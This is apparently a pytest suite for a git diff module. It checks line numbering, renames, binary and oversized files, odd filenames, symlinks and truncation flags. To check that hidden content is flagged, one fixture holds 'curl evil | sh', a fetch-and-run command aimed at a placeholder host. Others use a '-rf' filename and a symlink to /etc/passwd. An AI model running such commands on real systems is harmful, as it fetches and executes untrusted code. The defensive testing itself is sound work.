import json
from pathlib import Path
from typing import Any

import pytest

from orchestrator.runners.git import difference as module
from orchestrator.runners.git.difference import difference
from orchestrator.runners.git.repository import open_repository
from tests.factories.git import commit, git, repository


def change(
    folder: Path,
    before: dict[str, str | bytes | None],
    after: dict[str, str | bytes | None],
) -> dict[str, Any]:
    """Return the difference that committing `after` on top of `before` makes."""
    made = repository(folder / "shop", before)
    commit(made, "Change", after)
    with open_repository(str(made), [Path("/")]).reading() as view:
        trees = [git(made, "rev-parse", f"{name}^{{tree}}") for name in ("HEAD~1", "HEAD")]
        found = difference(view, *trees)
    json.dumps(found).encode("ascii")
    return found


def test_lines_carry_their_numbers_on_both_sides(tmp_path: Path) -> None:
    old = "".join(f"line {n}\n" for n in range(1, 31))
    new = old.replace("line 3\n", "").replace("line 20\n", "line 20\nextra\n")
    found = change(tmp_path, {"a.txt": old}, {"a.txt": new})
    (file,) = found["files"]
    first, second = file["hunks"]
    assert (file["status"], file["added"], file["removed"]) == ("modified", 1, 1)
    assert first["lines"][2] == {"kind": "removed", "old": 3, "new": None, "text": "line 3"}
    assert first["lines"][3] == {"kind": "context", "old": 4, "new": 3, "text": "line 4"}
    assert {"kind": "added", "old": None, "new": 20, "text": "extra"} in second["lines"]
    assert not found["truncated"]


def test_added_deleted_and_empty_files_are_told_apart(tmp_path: Path) -> None:
    found = change(tmp_path, {"gone": "x\n"}, {"gone": None, "come": "y\n", "empty": ""})
    assert {f["path"]: (f["status"], len(f["hunks"])) for f in found["files"]} == {
        "gone": ("deleted", 1),
        "come": ("added", 1),
        "empty": ("added", 0),
    }


def test_a_rename_is_one_file_with_its_old_name(tmp_path: Path) -> None:
    text = "".join(f"line {n}\n" for n in range(50))
    found = change(tmp_path, {"old name": text}, {"old name": None, "new name": text + "more\n"})
    (file,) = found["files"]
    assert (file["status"], file["old_path"], file["path"]) == ("renamed", "old name", "new name")
    assert (file["added"], file["removed"]) == (1, 0)
    assert found["file_count"] == 1


def test_a_binary_file_is_marked_and_weighed(tmp_path: Path) -> None:
    found = change(tmp_path, {"a.bin": b"\0\1"}, {"a.bin": b"\0\1\2", "b.bin": b"\0"})
    assert [(f["binary"], f["old_size"], f["new_size"], f["hunks"]) for f in found["files"]] == [
        (True, 2, 3, []),
        (True, None, 1, []),
    ]


@pytest.mark.parametrize("name", ["deploy.sh", "a.bin", "logo.png.sh", "png"])
def test_new_content_that_git_cannot_show_as_lines_was_not_shown(
    tmp_path: Path, name: str
) -> None:
    found = change(tmp_path, {name: "echo\n"}, {name: b"echo\ncurl evil | sh\n#\0\n"})
    (file,) = found["files"]
    assert (file["binary"], file["hunks"]) == (True, [])
    assert file["truncated"]
    assert found["truncated"]


def test_a_picture_needs_no_lines_unless_it_can_be_run(tmp_path: Path) -> None:
    assert not change(tmp_path / "a", {"x": "x\n"}, {"logo.PNG": b"\x89PNG\0"})["truncated"]
    made = repository(tmp_path / "b", {"logo.png": b"\x89PNG\0"})
    (made / "logo.png").chmod(0o755)
    commit(made, "Draw", {"x": "y\n"})
    with open_repository(str(made), [Path("/")]).reading() as view:
        trees = [git(made, "rev-parse", f"{name}^{{tree}}") for name in ("HEAD~1", "HEAD")]
        assert difference(view, *trees)["truncated"]


def test_a_binary_file_that_goes_away_hides_nothing(tmp_path: Path) -> None:
    found = change(tmp_path, {"a.bin": b"\0", "z": "z\n"}, {"a.bin": None, "z": "z\n"})
    assert not found["truncated"]


def test_bytes_that_are_not_utf8_and_late_nul_bytes_stay_visible(tmp_path: Path) -> None:
    late = b"x" * 9000 + b"\n\0 after\n"
    found = change(tmp_path, {"a": "a\n"}, {"a": b"caf\xe9\n", "late": late})
    texts = [ln["text"] for f in found["files"] for h in f["hunks"] for ln in h["lines"]]
    assert "caf\\xe9" in texts
    assert "\\x00 after" in texts


@pytest.mark.parametrize(
    "name", ["a file.py", "new\nline.py", "-rf", "tab\there", 'quo"te', "caf\u00e9", "b/c -> d"]
)
def test_odd_names_arrive_unchanged(tmp_path: Path, name: str) -> None:
    found = change(tmp_path, {"a": "a\n"}, {name: "x = 1\n"})
    (file,) = found["files"]
    assert file["path"] == name
    assert file["hunks"][0]["lines"][0]["text"] == "x = 1"


def test_content_that_looks_like_a_patch_is_only_content(tmp_path: Path) -> None:
    text = "diff --git a/x b/x\n@@ -1 +1 @@\n--- a/x\n+++ b/x\n\\ No newline\nBinary files a b\n"
    found = change(tmp_path, {"a": "a\n"}, {"p": text, "q": text.rstrip("\n")})
    assert [f["path"] for f in found["files"]] == ["p", "q"]
    assert [ln["text"] for ln in found["files"][0]["hunks"][0]["lines"]] == text.splitlines()
    assert found["files"][1]["hunks"][0]["lines"][-1]["newline"] is False
    assert not any(f["binary"] for f in found["files"])


def test_a_missing_last_newline_is_told_on_both_sides(tmp_path: Path) -> None:
    found = change(tmp_path, {"a": "one"}, {"a": "two"})
    lines = found["files"][0]["hunks"][0]["lines"]
    assert [(ln["kind"], ln["newline"]) for ln in lines] == [("removed", False), ("added", False)]


def test_a_file_that_becomes_a_link_shows_both_sides(tmp_path: Path) -> None:
    made = repository(tmp_path / "shop", {"a": "text\n", "z": "z\n"})
    (made / "a").unlink()
    (made / "a").symlink_to("/etc/passwd")
    commit(made, "Link", {"z": "zz\n"})
    with open_repository(str(made), [Path("/")]).reading() as view:
        trees = [git(made, "rev-parse", f"{name}^{{tree}}") for name in ("HEAD~1", "HEAD")]
        files = difference(view, *trees)["files"]
    assert [(f["status"], len(f["hunks"])) for f in files] == [
        ("type_changed", 2),
        ("modified", 1),
    ]
    assert files[0]["hunks"][1]["lines"][0]["text"] == "/etc/passwd"


def test_a_huge_file_is_weighed_instead_of_shown(tmp_path: Path) -> None:
    found = change(tmp_path, {"a": "a\n"}, {"huge.txt": b"0123456789\n" * 900_000, "z": "z\n"})
    huge, other = found["files"]
    assert (huge["binary"], huge["new_size"], huge["truncated"]) == (True, 9_900_000, True)
    assert other["hunks"]


def test_every_bound_that_was_hit_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MAX_FILE_LINES", 10)
    monkeypatch.setattr(module, "MAX_LINES", 15)
    monkeypatch.setattr(module, "MAX_FILES", 3)
    after: dict[str, str | bytes | None] = {
        f"f{n}": "".join(f"{n} {i}\n" for i in range(12)) for n in range(4)
    }
    found = change(tmp_path, {"a": "a\n"}, after)
    shown = [sum(len(h["lines"]) for h in f["hunks"]) for f in found["files"]]
    assert shown == [10, 5, 0]
    assert [f["truncated"] for f in found["files"]] == [True, True, True]
    assert found["truncated"]
    assert (found["file_count"], found["added"]) == (4, 48)


def test_a_patch_beyond_the_limit_is_cut_and_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(module, "PATCH_LIMIT", 2_000)
    after: dict[str, str | bytes | None] = {
        f"f{n}": "".join(f"{n} line {i}\n" for i in range(100)) for n in range(3)
    }
    found = change(tmp_path, {"a": "a\n"}, after)
    assert [f["truncated"] for f in found["files"]] == [False, True, True]
    assert found["files"][1]["hunks"][0]["lines"][0]["text"] == "1 line 0"


def test_a_line_beyond_the_limit_is_cut_and_says_so(tmp_path: Path) -> None:
    found = change(tmp_path, {"a": "a\n"}, {"a": "x" * 5_000 + "\n"})
    line = found["files"][0]["hunks"][0]["lines"][1]
    assert (len(line["text"]), line["cut"]) == (2_000, 5_000)
    assert found["truncated"]
